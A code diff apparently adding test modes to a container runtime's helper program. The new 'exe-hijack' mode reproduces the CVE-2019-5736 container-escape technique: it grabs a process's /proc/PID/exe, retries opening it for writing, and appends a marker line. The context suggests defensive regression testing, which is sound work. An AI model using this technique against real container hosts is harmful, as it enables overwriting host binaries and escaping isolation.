@@ -5,8 +5,15 @@
 //                       subreaper, run CMD, print "ran STATUS", then print "reaped PID exit N" / "reaped PID
 //                       signal N" for every orphan adopted and reaped, until none is left
 //   fdwatch FILE        (in a container with CAP_SYS_PTRACE) spin on the next pids of this pid namespace; for
-//                       every process that appears, open each /proc/PID/fd/N and /proc/PID/cwd and append
-//                       "PID NAME DEV INO MODE" (what the open reached) to FILE once per distinct object
+//                       every process that appears, open each /proc/PID/fd/N, /proc/PID/cwd and /proc/PID/exe
+//                       and append "PID NAME DEV INO MODE" (what the open reached) to FILE once per distinct object
+//   exe-hijack TARGET REPORT
+//                       (CVE-2019-5736, in a container with CAP_SYS_PTRACE) wait for a pid in the file TARGET,
+//                       open /proc/PID/exe (O_PATH) and append "grabbed DEV INO" to REPORT; then reopen that
+//                       file for writing through /proc/self/fd, retrying while a process still executes it
+//                       (ETXTBSY), and append a marker line to it. Ends REPORT with "grab-failed ERRNO",
+//                       "wrote", "write-failed ERRNO", "refused ERRNO" or "busy" (still executed after 30 s),
+//                       then waits to be killed (as an init, it keeps its pid namespace alive)
 #include <dirent.h>
 #include <fcntl.h>
 #include <sys/prctl.h>
@@ -16,6 +23,7 @@
 #include <sys/un.h>
 #include <unistd.h>
 
+#include <cerrno>
 #include <cstddef>
 #include <cstdio>
 #include <cstdlib>
@@ -95,7 +103,7 @@ static void record(FILE* out, long pid, const char* name, const char* path, std:
   std::fflush(out);
 }
 
-// Scans one process: every fd and its cwd. Returns false if it does not exist (yet, or any more).
+// Scans one process: every fd, its cwd and its exe. Returns false if it does not exist (yet, or any more).
 static bool scan(FILE* out, long pid, std::set<std::string>* seen) {
   char dir[64];
   std::snprintf(dir, sizeof(dir), "/proc/%ld/fd", pid);
@@ -110,6 +118,8 @@ static bool scan(FILE* out, long pid, std::set<std::string>* seen) {
   closedir(d);
   std::snprintf(dir, sizeof(dir), "/proc/%ld/cwd", pid);
   record(out, pid, "cwd", dir, seen);
+  std::snprintf(dir, sizeof(dir), "/proc/%ld/exe", pid);
+  record(out, pid, "exe", dir, seen);
   return true;
 }
 
@@ -135,11 +145,64 @@ static int fdwatch(const char* file) {
   }
 }
 
+static void say(const char* report, const char* fmt, long a, long b = 0) {
+  FILE* f = std::fopen(report, "a");
+  if (f == nullptr) return;
+  std::fprintf(f, fmt, a, b);
+  std::fclose(f);
+}
+
+// The attempt itself; exe_hijack reports and then waits.
+static void hijack(long pid, const char* report) {
+  char path[64];
+  std::snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
+  int fd = open(path, O_PATH | O_CLOEXEC);
+  struct stat st;
+  if (fd < 0 || fstat(fd, &st) < 0) {
+    say(report, "grab-failed %ld\n", errno);
+    return;
+  }
+  say(report, "grabbed %ld %ld\n", static_cast<long>(st.st_dev), static_cast<long>(st.st_ino));
+  std::snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+  for (int i = 0; i < 3000; i++) {
+    int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
+    if (w >= 0) {
+      const char mark[] = "\ntsrun-exe-hijacked\n";
+      if (write(w, mark, sizeof(mark) - 1) == static_cast<ssize_t>(sizeof(mark) - 1))
+        say(report, "wrote\n", 0);
+      else
+        say(report, "write-failed %ld\n", errno);
+      return;
+    }
+    if (errno != ETXTBSY) {
+      say(report, "refused %ld\n", errno);
+      return;
+    }
+    usleep(10000);
+  }
+  say(report, "busy\n", 0);
+}
+
+static int exe_hijack(const char* target, const char* report) {
+  long pid = 0;
+  for (int i = 0; i < 6000 && pid <= 0; i++) {
+    if (FILE* f = std::fopen(target, "r")) {
+      if (std::fscanf(f, "%ld", &pid) != 1) pid = 0;
+      std::fclose(f);
+    }
+    if (pid <= 0) usleep(10000);
+  }
+  if (pid <= 0) return 1;
+  hijack(pid, report);
+  for (;;) pause();
+}
+
 int main(int argc, char** argv) {
+  if (argc == 4 && std::strcmp(argv[1], "exe-hijack") == 0) return exe_hijack(argv[2], argv[3]);
   if (argc == 3 && std::strcmp(argv[1], "fdwatch") == 0) return fdwatch(argv[2]);
   if (argc >= 3 && std::strcmp(argv[1], "subreaper") == 0) return subreaper(argv + 2);
   if (argc == 3 && std::strcmp(argv[1], "sd-notify") == 0) return sd_notify(argv[2]);
   if (argc == 3 && std::strcmp(argv[1], "alloc") == 0) return alloc(argv[2]);
-  std::fprintf(stderr, "usage: %s sd-notify MESSAGE | alloc MIB | subreaper CMD... | fdwatch FILE\n", argv[0]);
+  std::fprintf(stderr, "usage: %s sd-notify MESSAGE | alloc MIB | subreaper CMD... | fdwatch FILE | exe-hijack TARGET REPORT\n", argv[0]);
   return 2;
 }
